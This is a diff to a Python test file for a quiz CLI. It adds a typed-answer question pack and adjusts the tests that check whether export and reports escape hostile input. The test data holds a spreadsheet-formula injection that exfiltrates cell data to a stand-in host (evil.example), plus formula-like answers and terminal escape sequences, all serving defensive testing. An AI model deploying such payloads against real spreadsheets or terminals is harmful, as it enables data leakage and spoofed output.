@@ -19,6 +19,17 @@ STARTER = (ROOT / "questions" / "starter.yaml").read_text(encoding="utf-8")
 HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b[31mEve\x9b1m\u202e\x07"
 
 
+TEXT_PACK = """id: words
+title: Words
+description: Three typed answers.
+source: {title: Notes, author: me, outlet: class, date: "2026"}
+questions:
+  - {id: w1, type: text, prompt: "First word?", answers: [alpha], explanation: The notes.}
+  - {id: w2, type: text, prompt: "Second word?", answers: [beta], explanation: The notes.}
+  - {id: w3, type: text, prompt: "Third word?", answers: [gamma], explanation: The notes.}
+"""
+
+
 def run(*args: str | Path, stdin: str = ""):
     return CliRunner().invoke(cli, [str(a) for a in args], input=stdin)
 
@@ -37,8 +48,11 @@ def test_other_cells_are_left_alone(value: object) -> None:
 def test_export_escapes_a_students_formula_name_and_answers(tmp_path: Path) -> None:
     db = tmp_path / "q.sqlite3"
     name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    played = run("play", "--seed", "1", "--count", "3", "--name", name, "--db", db,
-                 stdin="=1+1\n@SUM(A1:A9)\n-3\n")
+    words = tmp_path / "words.yaml"  # typed-answer questions: any text is an answer to them
+    words.write_text(TEXT_PACK, encoding="utf-8")
+    assert run("pack", "install", words, "--db", db).exit_code == 0
+    played = run("play", "--pack", "words", "--seed", "1", "--count", "3", "--name", name,
+                 "--db", db, stdin="=1+1\n@SUM(A1:A9)\n-3\n")
     assert played.exit_code == 0, played.output
     exported = run("export", "--db", db)
     assert exported.exit_code == 0, exported.output
@@ -95,7 +109,7 @@ def test_pack_show_and_report_strip_escapes_from_pack_text(tmp_path: Path) -> No
         assert shown.exit_code == 0 and "Starter" in shown.stdout, shown.output
         _no_escapes(shown.stdout)
     run("play", "--pack", "hostile", "--seed", "1", "--count", "10", "--db", db,
-        stdin="\x1b[2Jwrong\n" * 10)
+        stdin="\x1b[2Jwrong\nskip\n" * 10)  # recorded where typed text is an answer
     report = run("report", "--pack", "hostile", "--db", db)
     assert report.exit_code == 0 and "wrong" in report.stdout, report.output
     _no_escapes(report.stdout)
